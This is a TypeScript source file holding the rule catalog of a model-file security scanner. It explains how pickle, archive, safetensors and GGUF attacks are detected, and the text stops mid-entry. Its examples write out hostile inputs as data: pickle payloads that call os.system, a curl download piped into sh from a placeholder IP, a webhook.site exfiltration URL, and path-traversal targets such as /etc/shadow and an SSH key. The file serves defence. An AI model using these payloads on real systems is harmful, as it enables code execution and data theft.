/**
 * The rule catalog: every finding modelaudit can produce has one entry here, with
 * its stable id, kind, default severity, CWE and the explanation that
 * `modelaudit rules`, the README and report metadata all read.
 *
 * Rule ids are a type ({@linkcode RuleId}): a scanner that reports a mistyped id
 * fails to type-check instead of throwing mid-scan. The id ranges reserved for
 * each family of formats are planned in the README ("Rule ids").
 *
 * @module
 */

import type { Severity } from "./types.ts";

/**
 * What a rule is about, which decides where its findings are wanted:
 * - `security`: a sign of intent or of an attack (code run on load, a parser differential, a bomb);
 * - `integrity`: content that is malformed or inconsistent, which a tolerant loader may still read;
 * - `limit`: content not inspected, because a limit was reached or the format is not read yet.
 *
 * A payload scanned on a guess (bytes that merely start like a pickle) reports only `security` findings.
 */
export type RuleKind = "security" | "integrity" | "limit";

/** One rule: what it detects, why that matters, and what to do about it. */
export interface Rule {
  /** Stable id users suppress by, e.g. `MA100`. Never reused. */
  readonly id: RuleId;
  /** Short kebab-case name, e.g. `pickle-dangerous-import`. */
  readonly name: string;
  /** What the rule is about. */
  readonly kind: RuleKind;
  /** Default severity of its findings. */
  readonly severity: Severity;
  /** The CWE the weakness falls under, where one fits (502 for CWE-502). */
  readonly cwe?: number;
  /** One line: what was found. */
  readonly title: string;
  /** Why it matters. */
  readonly why: string;
  /** A concrete case that triggers the rule. */
  readonly example: string;
  /** What to do. */
  readonly fix: string;
}

/** What each catalog entry must be; that its id is its key, `tests/core/rules_test.ts` checks. */
type CatalogEntry = Omit<Rule, "id"> & { readonly id: `MA${number}` };

const LOAD_FIX =
  "Do not load the file. Obtain the model from a trusted source, or in a format that holds no code.";

/**
 * Every rule, keyed by id, in id order.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { RULES } from "./rules.ts";
 * assert.equal(RULES.MA100.id, "MA100");
 * assert.equal(RULES.MA100.severity, "critical");
 * ```
 */
export const RULES = {
  MA001: {
    id: "MA001",
    name: "extension-mismatch",
    kind: "security",
    severity: "warning",
    cwe: 646,
    title: "File name claims a different format than its content",
    why:
      "Loaders pick a parser by content, people and tools by name: a pickle named .safetensors or .txt slips past reviews and scanners that trust the extension.",
    example: "A pickle saved as `model.safetensors`.",
    fix: "Rename the file after its real format, or find out why it was disguised.",
  },
  MA002: {
    id: "MA002",
    name: "symlink-outside-root",
    kind: "security",
    severity: "warning",
    cwe: 59,
    title: "Symbolic link points outside the scanned directory",
    why: "A link that leaves the scanned tree can make a loader read a file nobody scanned.",
    example: "`models/weights.bin -> /home/user/.ssh/id_rsa` in the scanned folder.",
    fix: "Replace the link with the file it points to, and scan that.",
  },
  MA003: {
    id: "MA003",
    name: "file-too-large",
    kind: "limit",
    severity: "info",
    title: "File skipped: larger than --max-file-size",
    why: "A skipped file was not inspected at all.",
    example: "A 12 GB checkpoint scanned with `--max-file-size 1GB`.",
    fix: "Raise --max-file-size to scan it.",
  },
  MA004: {
    id: "MA004",
    name: "blacklisted-name",
    kind: "security",
    severity: "critical",
    title: "File name matches a --blacklist pattern",
    why: "You asked to flag files with this name.",
    example: "`--blacklist evil` and a file named `evil_model.pkl`.",
    fix: "Remove the file, or drop the pattern.",
  },
  MA005: {
    id: "MA005",
    name: "blacklisted-string",
    kind: "security",
    severity: "critical",
    title: "Model content contains a --blacklist pattern",
    why: "You asked to flag models that mention this string.",
    example: "`--blacklist webhook.site` and a pickle whose arguments mention `https://webhook.site/...`.",
    fix: "Inspect where the string is used; remove the model if it is unwanted.",
  },
  MA006: {
    id: "MA006",
    name: "nested-content-not-inspected",
    kind: "limit",
    severity: "info",
    title: "A file or nested payload in a format this version cannot inspect yet",
    why:
      "Content that is not inspected may hide code (an archive of pickles, a Keras file, a NumPy object array); loaders still read it.",
    example:
      "A pickle handing `pickle.loads` bytes that are no pickle, or pickles in pickles nested deeper than `--max-depth`.",
    fix: "Inspect the nested content by other means, or wait for a scanner for its format.",
  },
  MA007: {
    id: "MA007",
    name: "unrecognised-content",
    kind: "integrity",
    severity: "info",
    title: "Named like a model file, but the content matches no known format",
    why: "A loader may still accept it; a scanner that does not recognise it cannot vouch for it.",
    example: "`pytorch_model.bin` holding random bytes that are neither a zip, a tar nor a pickle.",
    fix: "Check what the file really is.",
  },
  MA008: {
    id: "MA008",
    name: "findings-truncated",
    kind: "limit",
    severity: "info",
    title: "Too many findings in one file; the rest were not listed",
    why:
      "A file with thousands of findings is hostile or badly broken; listing them all would drown the report.",
    example: "A pickle that imports `os.system` ten thousand times.",
    fix: "Treat the file as untrusted; the findings shown are enough to reject it.",
  },
  MA009: {
    id: "MA009",
    name: "polyglot",
    kind: "security",
    severity: "warning",
    cwe: 436,
    title: "Content is valid as two formats, which different loaders read differently",
    why:
      "A zlib stream or a tar whose first bytes are also pickle opcodes is decompressed or unpacked by one tool and unpickled from byte 0 by pickle.load, torch.load, joblib.load or np.load: a scanner that reads only one of the two sees only half of what runs.",
    example: "A tar archive whose first header bytes are also a pickle that calls `os.system`.",
    fix: "Do not load the file. No tool writes such files; find out who crafted it.",
  },
  MA010: {
    id: "MA010",
    name: "sibling-reference-escape",
    kind: "security",
    severity: "critical",
    cwe: 22,
    title: "A model file refers to a file outside its folder",
    why:
      "Formats that span files (ONNX external data, a Hugging Face config's auto_map, a SavedModel's assets) make their loader open the files they name: a name with `..`, an absolute path or a link leading out makes it read, or run, a file nobody scanned (ONNX's path traversal, CVE-2022-25882).",
    example: "An ONNX initializer whose external data location is `../../etc/shadow`.",
    fix:
      "Do not load the model. Keep every file it refers to inside its folder, without links, and scan the folder.",
  },
  MA011: {
    id: "MA011",
    name: "suspicious-string",
    kind: "security",
    severity: "warning",
    cwe: 494,
    title: "A string in the model downloads and runs code, or points where attackers stage payloads",
    why:
      "Model metadata and configuration are read by code that uses the model: a download piped into a shell (`curl ... | sh`), a URL to a raw IP address, a paste site, a URL shortener, a tunnel or request-capture host, or a `file://` URL has no place in weights or their settings, and is how a second stage is fetched or data leaves.",
    example: "A safetensors `__metadata__` value `curl -s http://203.0.113.7/x.sh | sh`.",
    fix: "Find out who put the string there and what reads it; do not run the command.",
  },
  MA012: {
    id: "MA012",
    name: "embedded-payload-string",
    kind: "security",
    severity: "warning",
    cwe: 94,
    title: "A string in the model's metadata or settings hides Python code or a pickle",
    why:
      "The format itself does not run the string, but code that uses the model may (`eval` of a setting, `pickle.loads` of a field); no real model keeps Python source calling `os.system` or a base64 pickle in its metadata. An encoded pickle is decoded and scanned.",
    example: "A safetensors `__metadata__` value that is the base64 of a pickle calling `os.system`.",
    fix: "Remove the string, or obtain the model from a trusted source.",
  },
  MA090: {
    id: "MA090",
    name: "config-ignore-expired",
    kind: "integrity",
    severity: "warning",
    title: "An ignore entry of the config file has expired",
    why:
      "An ignore with an expiry date is a promise to look again: once the date has passed it stops suppressing, and the findings it hid are reported again, so that a temporary exception cannot become a permanent blind spot.",
    example:
      '`[[ignore]] rule = "MA102", path = "models/legacy/**", expires = 2026-06-30` in `modelaudit.toml`, on 2026-07-01.',
    fix: "Review the findings it hid; then delete the entry, or renew its expiry with a reason.",
  },
  MA100: {
    id: "MA100",
    name: "pickle-dangerous-import",
    kind: "security",
    severity: "critical",
    cwe: 502,
    title: "Pickle imports a callable that can run code or touch the system",
    why:
      "Unpickling resolves every GLOBAL/STACK_GLOBAL/INST import; calling what it imports is how pickle payloads run commands.",
    example: "`cos\\nsystem\\n` (GLOBAL os.system) in a pickle.",
    fix: LOAD_FIX,
  },
  MA101: {
    id: "MA101",
    name: "pickle-dangerous-call",
    kind: "security",
    severity: "critical",
    cwe: 502,
    title: "Pickle calls a dangerous callable when loaded",
    why:
      "REDUCE, INST, OBJ, NEWOBJ, NEWOBJ_EX and BUILD call what was imported; with a denied callable that runs attacker-chosen code on load.",
    example: "`cos\\nsystem\\n(S'echo pwned'\\ntR.`: os.system('echo pwned') called by REDUCE on load.",
    fix: LOAD_FIX,
  },
  MA102: {
    id: "MA102",
    name: "pickle-unknown-import",
    kind: "security",
    severity: "warning",
    cwe: 502,
    title: "Pickle imports a callable that is neither known-safe nor known-dangerous",
    why:
      "Any importable callable runs on load; an unknown one needs a human look before the file is trusted.",
    example: "GLOBAL `mylib.helpers.make_model`: not on either list.",
    fix: "Check the named module and function; if they are yours and safe, suppress this finding for them.",
  },
  MA103: {
    id: "MA103",
    name: "pickle-unknown-call",
    kind: "security",
    severity: "warning",
    cwe: 502,
    title: "Pickle calls a callable that is not known to be safe",
    why: "The call happens while loading, with arguments chosen by whoever made the file.",
    example: "REDUCE on `mylib.helpers.make_model` with arguments from the file.",
    fix: "Check the named callable and its arguments before loading the file.",
  },
  MA104: {
    id: "MA104",
    name: "pickle-unresolved-import",
    kind: "security",
    severity: "critical",
    cwe: 502,
    title: "Pickle imports something whose name is not a constant string",
    why:
      "A module or name computed at load time (or taken from the copyreg extension registry) hides what is imported; benign serializers never do this.",
    example: "STACK_GLOBAL whose module name is built by a call, or EXT1 code 1 from the copyreg registry.",
    fix: LOAD_FIX,
  },
  MA105: {
    id: "MA105",
    name: "pickle-malformed",
    kind: "integrity",
    severity: "warning",
    title: "Pickle stream is truncated or malformed",
    why:
      "Loaders act on every opcode before the break; a broken stream can hide data that another parser reads differently.",
    example: "A pickle cut off before its STOP opcode, or an opcode byte no protocol defines.",
    fix: "Re-create the file from its source; do not trust a file that does not parse.",
  },
  MA106: {
    id: "MA106",
    name: "pickle-frame-mismatch",
    kind: "integrity",
    severity: "critical",
    cwe: 436,
    title: "A pickle FRAME's declared length disagrees with its opcodes",
    why:
      "Frames that lie about their length make scanners and loaders see different opcodes: a known scanner bypass.",
    example: "A FRAME that declares 8 bytes around opcodes that take 20.",
    fix: LOAD_FIX,
  },
  MA107: {
    id: "MA107",
    name: "pickle-encoded-pickle",
    kind: "security",
    severity: "warning",
    cwe: 502,
    title: "A string in the pickle decodes to another pickle",
    why: "A pickle hidden in base64 or hex text is a way to smuggle a second payload past scanners.",
    example: "A base64 string argument that decodes to `\\x80\\x04...` with its own imports.",
    fix: "Inspect the decoded pickle's findings; do not load the file until they are explained.",
  },
  MA108: {
    id: "MA108",
    name: "pickle-embedded-code",
    kind: "security",
    severity: "critical",
    cwe: 94,
    title: "A string in the pickle is Python source that calls dangerous functions",
    why: "Source text handed to exec, eval or compile runs when the pickle is loaded.",
    example: "An argument `\"import os; os.system('echo pwned')\"` handed to builtins.exec.",
    fix: LOAD_FIX,
  },
  MA109: {
    id: "MA109",
    name: "pickle-expansion-bomb",
    kind: "security",
    severity: "critical",
    cwe: 400,
    title: "Pickle expands to far more objects than it has opcodes",
    why:
      "Repeated GET/DUP references build objects that grow exponentially (a billion-laughs attack) and exhaust memory when used.",
    example:
      "A list appended to itself through DUP and GET thirty times: 2^30 references from a few hundred bytes.",
    fix: "Do not load the file.",
  },
  MA110: {
    id: "MA110",
    name: "pickle-resource-limit",
    kind: "limit",
    severity: "warning",
    cwe: 400,
    title: "Pickle exceeds a scanner limit; past it only imports were checked",
    why:
      "Opcode count, memo size, stack depth or nesting beyond any real model is a denial-of-service attempt or an attempt to pad a payload past a scanner's limits. Imports past the limit are still reported, but calls and memo references are no longer tracked.",
    example: "A pickle with more opcodes or a deeper stack than any real model needs.",
    fix:
      "Treat the file as suspect until the reason for its size is known. For a model you have reason to trust, raise the limit its details name (`--limit pickle.maxOpcodes=...`; `modelaudit limits pickle` lists them) and scan again.",
  },
  MA111: {
    id: "MA111",
    name: "pickle-inert-code-string",
    kind: "security",
    severity: "info",
    title: "A string in the pickle reads as Python source, but nothing in the pickle evaluates it",
    why:
      "Unpickling runs only what the pickle calls; text that no call hands to eval, exec, compile or a loader is data when the file is loaded. Code that uses the model may still run it later.",
    example: "A dict value `\"import os; os.system('echo pwned')\"` that no call in the pickle uses.",
    fix:
      "Nothing to do for loading the file; if your application runs text from the model, check this string first.",
  },
  MA150: {
    id: "MA150",
    name: "msgpack-malformed",
    kind: "integrity",
    severity: "info",
    title: "A msgpack file does not decode",
    why:
      "msgpack cannot run code, but a checkpoint that does not decode (truncated, a length past its end, bytes after its one object) fails to load, or was cut or spliced; it was not inspected past the error.",
    example: "A `flax_model.msgpack` cut in the middle of a tensor's bytes.",
    fix: "Download the checkpoint again, and compare its hash with the one its publisher gives.",
  },
  MA151: {
    id: "MA151",
    name: "msgpack-not-checked",
    kind: "limit",
    severity: "info",
    title: "A msgpack file was not decoded: it is past a limit",
    why:
      "A file larger than `msgpack.maxBytes`, nested deeper than `msgpack.maxDepth`, or with more entries than `msgpack.maxEntries` is not decoded whole; msgpack runs no code, but what it holds was not looked at.",
    example: "A 20 GB `flax_model.msgpack` scanned with the default `msgpack.maxBytes`.",
    fix: "Raise the limit named in the finding (`--limit msgpack.maxBytes=...`) to decode it.",
  },
  MA152: {
    id: "MA152",
    name: "msgpack-unknown-extension",
    kind: "integrity",
    severity: "info",
    title: "A msgpack file uses an extension type no known model loader decodes",
    why:
      "msgpack itself runs no code, but an extension type is decoded by the loader's own `ext_hook`: Flax knows types 1 to 3 (arrays, complex numbers, NumPy scalars); any other type means the file was made for a loader whose hook decides what the bytes become.",
    example: "A `.msgpack` file holding an ext type 42 value.",
    fix: "Find out which program wrote the file and what its ext_hook does with the type before loading it.",
  },
  MA200: {
    id: "MA200",
    name: "archive-header-mismatch",
    kind: "security",
    severity: "critical",
    cwe: 436,
    title: "An archive member's local header disagrees with the central directory",
    why:
      "Loaders that read local headers and loaders that read the central directory then see different names, sizes or methods: the parser differential behind CVE-2025-1944, used to show a scanner one file and a loader another.",
    example: "A zip member named `data.pkl` in the central directory and `other.pkl` in its local header.",
    fix: LOAD_FIX,
  },
  MA201: {
    id: "MA201",
    name: "archive-flag-differential",
    kind: "security",
    severity: "critical",
    cwe: 436,
    title: "An archive member is flagged as encrypted or special but is not",
    why:
      "Scanners skip a member flagged encrypted while loaders that ignore the flag read it: the parser differential behind CVE-2025-1945.",
    example: "A member flagged encrypted (general-purpose bit 0) whose data is a plain pickle.",
    fix: LOAD_FIX,
  },
  MA202: {
    id: "MA202",
    name: "archive-crc-mismatch",
    kind: "integrity",
    severity: "warning",
    cwe: 354,
    title: "An archive member's data does not match its CRC-32",
    why:
      "Some loaders check the checksum and some do not; a member altered after packing is corrupt or tampered with.",
    example: "A member whose stored CRC-32 is 0x12345678 while its data hashes to something else.",
    fix: "Re-create the archive from its source; do not trust a member that fails its checksum.",
  },
  MA203: {
    id: "MA203",
    name: "archive-overlapping-members",
    kind: "security",
    severity: "critical",
    cwe: 409,
    title: "Archive members overlap in the file",
    why:
      "Members that share bytes are how non-recursive zip bombs work, and let one member's data be read as another's.",
    example: "Two central-directory entries pointing at the same local header.",
    fix: LOAD_FIX,
  },
  MA204: {
    id: "MA204",
    name: "archive-path-escape",
    kind: "security",
    severity: "critical",
    cwe: 22,
    title: "An archive member's name escapes the extraction directory",
    why:
      "A name with `..`, an absolute path, a drive letter or backslashes makes an extracting loader write files outside its folder (path traversal, e.g. over a Python module that is imported next).",
    example: "A member named `../../.bashrc` or `/etc/cron.d/job`.",
    fix: LOAD_FIX,
  },
  MA205: {
    id: "MA205",
    name: "archive-link-member",
    kind: "security",
    severity: "warning",
    cwe: 59,
    title: "An archive member is a symbolic or hard link",
    why: "Extracting a link lets a later member, or a loader, read or write a file outside the archive.",
    example: "A tar member `config.json -> /etc/passwd`.",
    fix: "Do not extract the archive; ask why it needs a link.",
  },
  MA206: {
    id: "MA206",
    name: "archive-bomb",
    kind: "security",
    severity: "warning",
    cwe: 409,
    title: "A member or archive decompresses to far more than it stores",
    why: "A compression bomb exhausts memory or disk when a loader unpacks it.",
    example: "A 66 KB member that inflates to 68 MB of zeros: over 1000 to 1.",
    fix:
      "Do not unpack the file; raise --max-compression-ratio or --max-decompressed-bytes only for a source you trust.",
  },
  MA207: {
    id: "MA207",
    name: "archive-extra-data",
    kind: "security",
    severity: "warning",
    cwe: 436,
    title: "Data before or after the archive's records",
    why:
      "A file that is two formats at once (a pickle followed by a zip) is read as one by one loader and as the other by another; the extra data is scanned too.",
    example: "A pickle with a zip appended after its STOP opcode.",
    fix: "Find out why the file carries extra data; re-create it from its source.",
  },
  MA208: {
    id: "MA208",
    name: "archive-encrypted-member",
    kind: "limit",
    severity: "info",
    title: "An archive member is encrypted and was not inspected",
    why:
      "Loaders cannot read an encrypted member without its password either, but whoever holds the password can.",
    example: "A zip member encrypted with a password.",
    fix: "Inspect the decrypted member before use.",
  },
  MA209: {
    id: "MA209",
    name: "container-malformed",
    kind: "integrity",
    severity: "warning",
    title: "A container is truncated, corrupt or malformed",
    why:
      "A container that does not parse is read differently by different loaders; what a scanner cannot read, a tolerant loader may still run.",
    example: "A gzip file cut off in the middle of its deflate stream.",
    fix: "Re-create the file from its source; do not trust a file that does not parse.",
  },
  MA210: {
    id: "MA210",
    name: "container-limit",
    kind: "limit",
    severity: "warning",
    title: "A container exceeds a scan limit; the rest was not inspected",
    why:
      "Nesting, member counts or decompressed sizes beyond any real model are an attack on scanners, or a model too large for the limits set.",
    example: "Zips nested deeper than --max-depth, or more members than --max-members.",
    fix:
      "For a file you have reason to trust, raise the limit its details name (`details.option`: --max-depth, --max-members, --max-decompressed-bytes, or a format's own such as `--limit tar.maxEntries=...`) and scan again.",
  },
  MA211: {
    id: "MA211",
    name: "archive-duplicate-member",
    kind: "security",
    severity: "critical",
    cwe: 436,
    title: "Two archive members have the same name",
    why:
      "Loaders disagree on which of two same-named members they read (the first or the last), so a scanner may vet one while the loader runs the other.",
    example: "A zip with two members named `archive/data.pkl`.",
    fix: LOAD_FIX,
  },
  MA212: {
    id: "MA212",
    name: "content-not-decodable",
    kind: "limit",
    severity: "warning",
    title: "Compressed or archived content that modelaudit cannot decode",
    why:
      "A 7z archive, an unsupported compression method or a codec without a decoder here hides its content from the scan, while a loader or a user may still unpack it (a 7z-wrapped PyTorch file is a known attack).",
    example: "A zip member compressed with PPMd, which modelaudit does not decode.",
    fix: "Unpack the content with a trusted tool and scan what it holds.",
  },
  MA213: {
    id: "MA213",
    name: "archive-encrypted-listing",
    kind: "limit",
    severity: "warning",
    title: "An archive's list of members is encrypted: nothing in it was inspected",
    why:
      "A 7z archive made with encrypted headers (`7z a -mhe=on`) hides even its member names without the password; whoever holds the password unpacks whatever it holds, and no scan can vouch for it.",
    example: "A 7z archive made with `7z a -p -mhe=on`.",
    fix: "Unpack the archive with its password using a trusted tool, and scan what it holds.",
  },
  MA300: {
    id: "MA300",
    name: "pytorch-unexpected-member",
    kind: "security",
    severity: "warning",
    title: "A PyTorch checkpoint holds a member torch.save does not write",
    why:
      "Extra members are not loaded by torch.load but travel with the model: a place to hide a payload for another loader or a later step.",
    example: "A PyTorch zip with `archive/payload.sh` beside `archive/data.pkl`.",
    fix: "Re-save the checkpoint with torch.save from a trusted source.",
  },
  MA301: {
    id: "MA301",
    name: "pytorch-invalid-metadata",
    kind: "integrity",
    severity: "warning",
    title: "A PyTorch checkpoint's version, byte order or serialization id is invalid",
    why:
      "torch.save writes these records in a fixed form; altered ones mean the archive was made or edited by something else.",
    example: "A PyTorch zip whose `archive/byteorder` reads `middle`.",
    fix: "Re-save the checkpoint with torch.save from a trusted source.",
  },
  MA302: {
    id: "MA302",
    name: "torchscript-dangerous-code",
    kind: "security",
    severity: "critical",
    cwe: 94,
    title: "TorchScript code calls something that runs code or reaches the system",
    why:
      "The code/ sources of a TorchScript archive are compiled and run by torch.jit.load; calls to os, subprocess, eval, exec, open or library loaders run on the user's machine.",
    example: '`archive/code/__torch__.py` calling `os.system("echo pwned")`.',
    fix: LOAD_FIX,
  },
  MA303: {
    id: "MA303",
    name: "pytorch-record-alias",
    kind: "security",
    severity: "warning",
    cwe: 178,
    title: "torch reads a checkpoint record under a name torch.save does not write",
    why:
      "torch's zip reader (miniz) finds records without regard to letter case, even past an exact match: archive/DATA.PKL can be the data.pkl torch.load unpickles, while tools that match names exactly read another record or none.",
    example: "A checkpoint whose pickle is stored as `archive/DATA.PKL`.",
    fix: "Re-save the checkpoint with torch.save from a trusted source.",
  },
  MA310: {
    id: "MA310",
    name: "numpy-malformed-header",
    kind: "integrity",
    severity: "warning",
    title: "A NumPy .npy header is malformed or disagrees with the file size",
    why:
      "np.load trusts the header's dtype and shape; a header that lies hides trailing data or breaks loaders in different ways.",
    example: "An .npy header declaring shape (1000000,) in a 200-byte file.",
    fix: "Re-create the array file with np.save from a trusted source.",
  },
  MA320: {
    id: "MA320",
    name: "safetensors-header-length",
    kind: "security",
    severity: "critical",
    cwe: 130,
    title: "A safetensors header length points past the file or over the loader's cap",
    why:
      "The first 8 bytes give the JSON header's length; the reference loader refuses more than 100,000,000 bytes or more than the file holds. A loader that trusts it allocates terabytes or reads out of bounds, and `8 + length` can wrap around.",
    example: "A 1 KB file whose header length is 0xFFFFFFFFFFFFFFF8.",
    fix: "Do not load the file; no safetensors writer produces it.",
  },
  MA321: {
    id: "MA321",
    name: "safetensors-header-not-json",
    kind: "security",
    severity: "critical",
    cwe: 436,
    title: "A safetensors header is not one strict JSON object",
    why:
      "The reference loader (serde_json) accepts exactly one JSON object in UTF-8 and nothing after it but spaces. Lenient parsers read invalid UTF-8, lone surrogates, trailing bytes or a second object differently, so two tools see two different files.",
    example: 'A header `{...}{"w": ...}`: a second object after the first.',
    fix: "Do not load the file; re-create it with the safetensors library.",
  },
  MA322: {
    id: "MA322",
    name: "safetensors-duplicate-key",
    kind: "security",
    severity: "critical",
    cwe: 436,
    title: "A safetensors header repeats a key",
    why:
      "Python's json and Rust's safetensors keep the last of two tensors with one name, parsers that keep the first see the other: a reviewed tool and the loader get different weights. A repeated `__metadata__` or tensor field makes the reference loader refuse the file, which Python's json reads.",
    example: "A header naming `lm_head.weight` twice with different offsets.",
    fix: "Do not load the file; no safetensors writer produces it.",
  },
  MA323: {
    id: "MA323",
    name: "safetensors-tensor-entry-invalid",
    kind: "integrity",
    severity: "warning",
    cwe: 20,
    title: "A safetensors tensor entry is not a dtype, shape and data_offsets the reference loader accepts",
    why:
      "Each tensor must name a dtype the reference loader knows, a shape of non-negative integers and a pair of offsets; other loaders guess at the rest, and fields the reference ignores can carry data nobody looks at.",
    example: "A tensor whose dtype is `F128`, or whose shape is `[-1, 4]`.",
    fix: "Re-create the file with the safetensors library.",
  },
  MA324: {
    id: "MA324",
    name: "safetensors-tensor-size-mismatch",
    kind: "security",
    severity: "warning",
    cwe: 130,
    title: "A safetensors tensor's shape and dtype disagree with its data_offsets",
    why:
      "Loaders that size buffers from the shape and copy from the offsets read or write out of bounds when the two disagree; a shape whose element count overflows 64 bits wraps to a small size in unchecked arithmetic.",
    example: "A F32 tensor of shape [1024, 1024] whose offsets span 16 bytes.",
    fix: "Do not load the file; re-create it with the safetensors library.",
  },
  MA325: {
    id: "MA325",
    name: "safetensors-offset-layout",
    kind: "security",
    severity: "warning",
    cwe: 119,
    title: "safetensors tensors overlap, leave gaps, or do not start at the data buffer",
    why:
      "The reference loader requires the tensors, sorted by offsets, to tile the data buffer from 0 with no overlap and no gap: overlapping tensors alias each other's bytes, and a gap holds data no loader reads and no reviewer sees. Bytes in a gap are scanned.",
    example: "Two tensors both at offsets [0, 64], or a 4 KB hole between two tensors.",
    fix: "Do not load the file; re-create it with the safetensors library.",
  },
  MA326: {
    id: "MA326",
    name: "safetensors-data-truncated",
    kind: "integrity",
    severity: "warning",
    title: "safetensors tensors end past the end of the file",
    why:
      "The reference loader refuses a file whose data buffer is shorter than its tensors' offsets; a loader that maps the file and trusts them reads out of bounds. A download cut short looks the same.",
    example: "A file whose last tensor ends at offset 4096 of a 1 KB data buffer.",
    fix: "Download the file again, or re-create it.",
  },
  MA327: {
    id: "MA327",
    name: "safetensors-trailing-data",
    kind: "security",
    severity: "warning",
    cwe: 436,
    title: "Data after the last safetensors tensor",
    why:
      "The reference loader refuses bytes after the data buffer; lenient loaders ignore them, so they can hold a second file (a pickle, a zip) that another tool opens. The extra bytes are scanned.",
    example: "A pickle appended after the last tensor's bytes.",
    fix: "Find out why the file carries extra data; re-create it with the safetensors library.",
  },
  MA328: {
    id: "MA328",
    name: "safetensors-metadata-invalid",
    kind: "integrity",
    severity: "warning",
    cwe: 20,
    title: "safetensors `__metadata__` is not a map of strings to strings",
    why:
      "The reference loader refuses any other `__metadata__`; tools that read the header with a plain JSON parser accept nested objects, numbers or lists, which can carry data the loader never shows.",
    example: '`"__metadata__": {"config": {"nested": [1, 2]}}`.',
    fix: "Re-create the file with the safetensors library, with string metadata only.",
  },
  MA329: {
    id: "MA329",
    name: "safetensors-metadata-oversized",
    kind: "security",
    severity: "warning",
    cwe: 506,
    title: "safetensors `__metadata__` is far larger than any real model's",
    why:
      'Real metadata is a few bytes (`{"format": "pt"}`) to a few hundred kilobytes (training notes, a thumbnail); megabytes of it are a place to carry a payload past tools that check only tensors.',
    example: "A `__metadata__` value of 20 MB.",
    fix: "Inspect what the metadata holds before using the model.",
  },
  MA330: {
    id: "MA330",
    name: "safetensors-header-limit",
    kind: "limit",
    severity: "warning",
    title: "A safetensors header holds more values than modelaudit inspects",
    why:
      "Real headers hold about eight JSON values per tensor; millions of them (a shape of ten million dimensions) make parsers spend seconds and gigabytes, and the header was not judged.",
    example: "A 40 MB header whose one tensor has a shape of 20,000,000 zeros.",
    fix: "Treat the file as hostile; no safetensors writer produces such a header.",
  },
  MA340: {
    id: "MA340",
    name: "gguf-declared-size-exceeds-file",
    kind: "security",
    severity: "critical",
    cwe: 789,
    title: "A GGUF or GGML header declares a count or length the file cannot hold",
    why:
      "Loaders size their allocations and reads from these fields: a tensor count, metadata count, string or array length larger than the bytes that remain makes them allocate terabytes, read out of bounds or overflow a size computation (the llama.cpp and gguf-py header CVEs).",
    example:
      "A 200-byte GGUF whose metadata count is 2^63, or whose `general.name` string claims 10^12 bytes.",
    fix: LOAD_FIX,
  },
  MA341: {
    id: "MA341",
    name: "gguf-malformed-header",
    kind: "integrity",
    severity: "warning",
    cwe: 20,
    title: "A GGUF header is malformed: llama.cpp refuses to load it",
    why:
      "llama.cpp's reader (gguf.cpp) rejects an unknown version or value type, a nested array, an empty or duplicate key, a non-u32 or non-power-of-two `general.alignment`, more than 4 dimensions, an over-long or duplicate tensor name and truncated headers; a file that breaks these rules was not written by a conforming writer, and other readers may accept it differently.",
    example: "A GGUF whose metadata value type is 13, or with two `general.architecture` keys.",
    fix: "Re-convert the model with llama.cpp's tools from a trusted source.",
  },
  MA342: {
    id: "MA342",
    name: "gguf-invalid-ggml-type",
    kind: "security",
    severity: "critical",
    cwe: 129,
    title: "A GGUF tensor declares a ggml type that does not exist",
    why:
      "Loaders index their type tables (block size, type size, dequantisers) with the tensor's ggml_type; a negative, removed or out-of-range type reads outside those tables or divides by a zero block size. A type just above the known ones may come from a newer llama.cpp, and the ARM-repacked types of late 2024 (Q4_0_4_4 and kin) are retired ones that current llama.cpp refuses (both warnings).",
    example: "A tensor whose type field is -1 or 0x7fffffff.",
    fix: LOAD_FIX,
  },
  MA343: {
    id: "MA343",
    name: "gguf-tensor-out-of-bounds",
    kind: "security",
    severity: "critical",
    cwe: 125,
    title: "A GGUF tensor's data lies outside the file, or its size overflows",
    why:
      "A loader that maps the file and trusts the tensor table reads past the end of the mapping; an element count or byte size that overflows 64 bits wraps to a small allocation that later writes overrun.",
    example: "A tensor of 4096 x 4096 F32 at an offset beyond the end of a 1 MB file.",
    fix: LOAD_FIX,
  },
  MA344: {
    id: "MA344",
    name: "gguf-tensor-overlap",
    kind: "security",
    severity: "warning",
    cwe: 436,
    title: "Two GGUF tensors share bytes",
    why:
      "llama.cpp requires tensors to follow each other; readers that accept overlaps (gguf-py, mmap-based loaders) alias one tensor's data with another's: a parser differential and a way to hide data.",
    example: "Two tensors whose offsets are both 0 in the data section.",
    fix: "Re-convert the model with llama.cpp's tools from a trusted source.",
  },
  MA345: {
    id: "MA345",
    name: "gguf-tensor-misplaced",
    kind: "integrity",
    severity: "warning",
    title: "A GGUF tensor's offset is misaligned or not where llama.cpp expects it",
    why:
      "The spec requires each tensor offset to be a multiple of `general.alignment`, and llama.cpp requires tensors to be laid out in order without gaps; a gap is room for hidden data, a misaligned offset breaks memory-mapped loaders.",
    example: "A tensor at offset 7 of the data section with the default alignment of 32.",
    fix: "Re-convert the model with llama.cpp's tools from a trusted source.",
  },
  MA346: {
    id: "MA346",
    name: "ggml-legacy-format",
    kind: "limit",
    severity: "info",
    title: "A legacy GGML, GGMF, GGJT or GGLA file: only its header and vocabulary are checked",
    why:
      "GGUF's predecessors hold raw hyper-parameters, a vocabulary and tensors, and no code; current llama.cpp no longer loads them. Their tensor records are not validated.",
    example: "A `ggml-model-q4_0.bin` written by llama.cpp in 2023 (magic `ggjt`, version 3).",
    fix: "Prefer a GGUF conversion of the model; this one is worth knowing about, not an alarm.",
  },
  MA347: {
    id: "MA347",
    name: "ggml-legacy-malformed",
    kind: "integrity",
    severity: "warning",
    cwe: 20,
    title: "A legacy GGML file's header or vocabulary is malformed",
    why:
      "The old loaders trusted these fields; values no converter writes (a version that never existed, negative hyper-parameters) mean the file was made or edited by something else.",
    example: "A `ggjt` file of version 9, or with a negative vocabulary size.",
    fix: "Obtain a GGUF conversion of the model from a trusted source.",
  },
  MA348: {
    id: "MA348",
    name: "gguf-metadata-not-inspected",
    kind: "limit",
    severity: "info",
    title: "GGUF metadata too long to inspect",
    why:
      "A string longer than any real metadata (64 MiB) is stepped over unread, and a chat template longer than the template analysis takes (8 MiB) is not analysed. A chat template is code that every inference server renders (llama-cpp-python's CVE-2024-34359 ran shell commands from one): what is not inspected here is not vouched for.",
    example: "A `tokenizer.chat_template` of 20 MB, or a `general.description` of 100 MB.",
    fix: "Review the named metadata by hand before serving the model.",
  },
  MA349: {
    id: "MA349",
    name: "gguf-trailing-data",
    kind: "integrity",
    severity: "warning",
